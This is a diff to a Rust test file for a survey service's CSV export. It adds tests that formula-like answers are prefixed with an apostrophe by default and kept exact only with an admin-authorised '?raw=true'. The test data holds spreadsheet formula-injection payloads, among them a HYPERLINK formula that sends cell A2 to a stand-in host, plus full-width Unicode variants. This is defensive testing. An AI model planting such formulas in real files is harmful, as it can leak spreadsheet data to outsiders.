@@ -44,11 +44,33 @@ fn label(node: &str, value: &str) -> &'static str {
     }
 }
 
-/// What a stored answer's row must be, read from its REST document.
+/// OWASP's rule, written apart from the service's: a text cell whose first
+/// character after NFKC is `=`, `+`, `-`, `@`, a tab or a carriage return
+/// gets a leading `'`.
+fn defused(text: String) -> String {
+    use unicode_normalization::UnicodeNormalization;
+    match text.nfkc().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
+        _ => text,
+    }
+}
+
+/// What a stored answer's row must be in the default (defused) download, read
+/// from its REST document.
 pub(crate) fn expected_row(document: &Value) -> Vec<String> {
+    row_of(document, false)
+}
+
+/// The row as `?raw=true` writes it: every value as stored.
+fn expected_raw_row(document: &Value) -> Vec<String> {
+    row_of(document, true)
+}
+
+fn row_of(document: &Value, raw: bool) -> Vec<String> {
+    let text = |text: String| if raw { text } else { defused(text) };
     let fields = &document["fields"];
     let node = string_field(document, "nodeId").unwrap();
-    let value = match &fields["value"] {
+    let stored = match &fields["value"] {
         Value::Null => String::new(),
         value => value["stringValue"]
             .as_str()
@@ -57,19 +79,25 @@ pub(crate) fn expected_row(document: &Value) -> Vec<String> {
             .or_else(|| value["doubleValue"].as_f64().map(|v| v.to_string()))
             .unwrap(),
     };
+    // Numbers stay numbers (a negative one is not prefixed).
+    let value = if fields["value"]["stringValue"].is_string() {
+        text(stored.clone())
+    } else {
+        stored.clone()
+    };
     let at = DateTime::parse_from_rfc3339(fields["answeredAt"]["timestampValue"].as_str().unwrap())
         .unwrap()
         .with_timezone(&ZONE)
         .to_rfc3339_opts(SecondsFormat::Millis, false);
     vec![
-        string_field(document, "lineUserId").unwrap(),
-        node.clone(),
-        value.clone(),
-        label(&node, &value).to_owned(),
-        string_array(document, "tags").join(";"),
+        text(string_field(document, "lineUserId").unwrap()),
+        text(node.clone()),
+        value,
+        text(label(&node, &stored).to_owned()),
+        text(string_array(document, "tags").join(";")),
         fields["scenarioVersion"]["integerValue"].as_str().unwrap().to_owned(),
         at,
-        string_field(document, "variant").unwrap_or_default(),
+        text(string_field(document, "variant").unwrap_or_default()),
     ]
 }
 
@@ -180,6 +208,63 @@ fn seeded_answer(scenario: &str, user: &str, node: &str, value: &str, at: DateTi
         "webhookEventId": {"stringValue": events::new_event_id()},
     });
     ("survey_responses".to_owned(), id, fields)
+}
+
+/// Typed answers a spreadsheet would run as formulas, in every form OWASP's
+/// rule names: the default download (and the console's) defuses them with a
+/// leading `'`; `?raw=true` keeps them exact; number answers, negative ones
+/// included, stay numbers.
+#[tokio::test]
+async fn formula_like_answers_are_defused_unless_raw_is_asked() {
+    let app = app().await;
+    let formulas = [
+        "=HYPERLINK(\"https://x.example/?\"&A2,\"open\")",
+        "+1+1",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "\r=1",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(A1)",
+    ];
+    let mut seeded = Vec::new();
+    for formula in formulas {
+        let user = events::new_user();
+        seeded.push(seeded_answer("export", &user, "comment", formula, march_second()));
+    }
+    let (_, id, mut number) = seeded_answer("export", &events::new_user(), "comment", "", march_second());
+    number["value"] = json!({"integerValue": "-5"});
+    number["valueType"] = json!({"stringValue": "number"});
+    seeded.push(("survey_responses".to_owned(), id, number));
+    app.firestore.write_all(&seeded).await;
+    let stored = app.firestore.list("survey_responses").await;
+    assert_eq!(stored.len(), formulas.len() + 1);
+
+    let safe = download(&app, "/admin/scenarios/export/answers.csv", Some(ADMIN_TOKEN)).await;
+    assert_eq!(safe.status, 200);
+    let rows = csv_rows(&safe.body);
+    assert_eq!(sorted(rows.clone()), sorted(stored.iter().map(expected_row).collect()));
+    for formula in formulas {
+        assert!(
+            rows.iter().any(|row| row[2] == format!("'{formula}")),
+            "{formula:?} defused in {rows:?}"
+        );
+    }
+    assert!(rows.iter().any(|row| row[2] == "-5"), "a negative number stays a number");
+
+    let raw = download(&app, "/admin/scenarios/export/answers.csv?raw=true", Some(ADMIN_TOKEN)).await;
+    assert_eq!(raw.status, 200);
+    let rows = csv_rows(&raw.body);
+    assert_eq!(sorted(rows.clone()), sorted(stored.iter().map(expected_raw_row).collect()));
+    for formula in formulas {
+        assert!(rows.iter().any(|row| row[2] == formula), "{formula:?} exact with raw=true");
+    }
+    let bad = download(&app, "/admin/scenarios/export/answers.csv?raw=maybe", Some(ADMIN_TOKEN)).await;
+    assert_eq!(bad.status, 400, "raw is true or false");
+    let no_token = download(&app, "/admin/scenarios/export/answers.csv?raw=true", None).await;
+    assert_eq!(no_token.status, 401, "raw values need the admin token");
 }
 
 /// Local midnight of 2026-03-02 in the scenario's zone.
